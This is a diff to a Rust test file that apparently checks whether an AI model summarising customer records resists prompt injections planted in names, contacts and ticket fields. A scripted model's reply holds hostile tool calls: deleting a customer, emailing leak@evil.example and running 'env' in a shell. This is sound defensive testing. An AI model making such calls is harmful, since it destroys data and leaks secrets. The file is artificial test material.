@@ -12,6 +12,7 @@ use axum::{
     extract::Request,
     middleware::{self, Next},
 };
+use chrono::NaiveDate;
 use contracts::{
     CustomerId, Line,
     delivery::{
@@ -71,9 +72,15 @@ impl World {
         .await;
         let backend = client(server.url.clone(), LONG);
         backend.remove_demo().await.unwrap();
-        let import = "import-1".parse().unwrap();
-        backend.send_piece(&import, 1, &book(injections)).await.unwrap();
-        assert!(backend.deliver(&import, &delivery()).await.unwrap().applied);
+        // What the data says now it did not say before, so that it is among what changed and what happened.
+        let usual = today() - chrono::Days::new(20);
+        for (import, piece, day) in
+            [("import-1", book(injections, false), usual), ("import-2", book(injections, true), today())]
+        {
+            let import = import.parse().unwrap();
+            backend.send_piece(&import, 1, &piece).await.unwrap();
+            assert!(backend.deliver(&import, &delivery(day)).await.unwrap().applied);
+        }
         let orders = Arc::new(Mutex::new(("", 0)));
         let given = Arc::clone(&orders);
         let model = ScriptedModel::answering(move |_| {
@@ -120,9 +127,9 @@ fn calls() -> Reply {
         Call::new("delete_customer", &json!({"customerId": "umbrella"})),
         Call::new("send_email", &json!({"to": "leak@evil.example"})),
         Call::new("run_shell", &json!({"command": "env"})),
-        Call::new("get_contract_info", &json!({"customerId": "umbrella"})),
-        Call::new("get_recent_tickets", &json!({"customerId": "vandelay", "ownerUserId": "victim"})),
-        Call::new("calculate_health", &json!({"ownerUserId": "victim"})),
+        Call::new("compare_with", &json!({"customerId": "umbrella", "day": "2026-12-01"})),
+        Call::new("timeline_before", &json!({"customerId": "vandelay", "ownerUserId": "victim", "day": "2026-12-01"})),
+        Call::new("history_of", &json!({"ownerUserId": "victim", "fact": "contract.plan"})),
     ])
 }
 
@@ -131,7 +138,7 @@ fn obedience(says: &str) -> Reply {
     let point = |cite: &str| json!({"cite": [cite], "say": says});
     let action = |text: &str, who: &str| json!({"do": text, "who": who, "due": null, "because": ["usage.change"]});
     Reply::answer(&json!({
-        "points": [point("usage.change"), point("t1"), point(says), point("contract.plan")],
+        "points": [point("usage.change"), point("t1"), point(says), point("contract.plan"), point("e1")],
         "actions": [action(says, "csm"), action("Call them today.", says), action("Call them.", "support")],
         "email": {"cite": ["usage.change", "health.score", "t1"], "opening": says, "ask": says},
         "outline": [{"section": "usage", "cite": ["usage.trend", "health.risk"], "say": says}],
@@ -139,14 +146,14 @@ fn obedience(says: &str) -> Reply {
 }
 
 /// One customer for each instruction, and the victims.
-fn book(injections: &[&Injection]) -> Piece {
+fn book(injections: &[&Injection], is_hostile: bool) -> Piece {
     let mut book = Piece::default();
     book.customers.extend(VICTIMS.map(|(id, name)| customer(id.parse().unwrap(), name, None)));
     for (place, injection) in injections.iter().enumerate() {
-        let text = |at: Place, usual: &'static str| if injection.place == at { injection.text } else { usual };
+        let says = |at: Place| is_hostile && injection.place == at;
+        let text = |at: Place, usual: &'static str| if says(at) { injection.text } else { usual };
         let contact = Some(text(Place::Contact, "Dana").into());
-        let name =
-            if injection.place == Place::Name { injection.text.to_owned() } else { format!("Hostile no {place}x") };
+        let name = if says(Place::Name) { injection.text.to_owned() } else { format!("Hostile no {place}x") };
         book.customers.push(customer(id(place), &name, contact));
         book.usage.push(UsageRows {
             customer_id: id(place),
@@ -156,7 +163,7 @@ fn book(injections: &[&Injection]) -> Piece {
         });
         let usual = format!("HOS-{place}");
         let ticket = Ticket {
-            id: if injection.place == Place::TicketId { injection.text.into() } else { usual.as_str().into() },
+            id: if says(Place::TicketId) { injection.text.into() } else { usual.as_str().into() },
             subject: Some(text(Place::Title, "Export fails").into()),
             priority: Priority::Urgent,
             opened_on: today() - chrono::Days::new(13),
@@ -176,19 +183,19 @@ fn book(injections: &[&Injection]) -> Piece {
     book
 }
 
-fn delivery() -> Delivery {
+fn delivery(day: NaiveDate) -> Delivery {
     let parts = [Part::Customers, Part::Usage, Part::Tickets, Part::Contracts];
     let columns = |part| columns::names(part).into_iter().map(Line::from).collect();
     Delivery {
         source: "book".parse().unwrap(),
-        day: today(),
+        day,
         mode: Mode::Snapshot,
         parts: parts.map(|part| (part, columns(part))).into(),
         pieces: 1,
         rejected: BTreeMap::new(),
         partly: [].into(),
         gone: Gone::Keep,
-        accept_losses: false,
+        accept_losses: true,
         strict: true,
         dry_run: false,
         primary_metric: None,
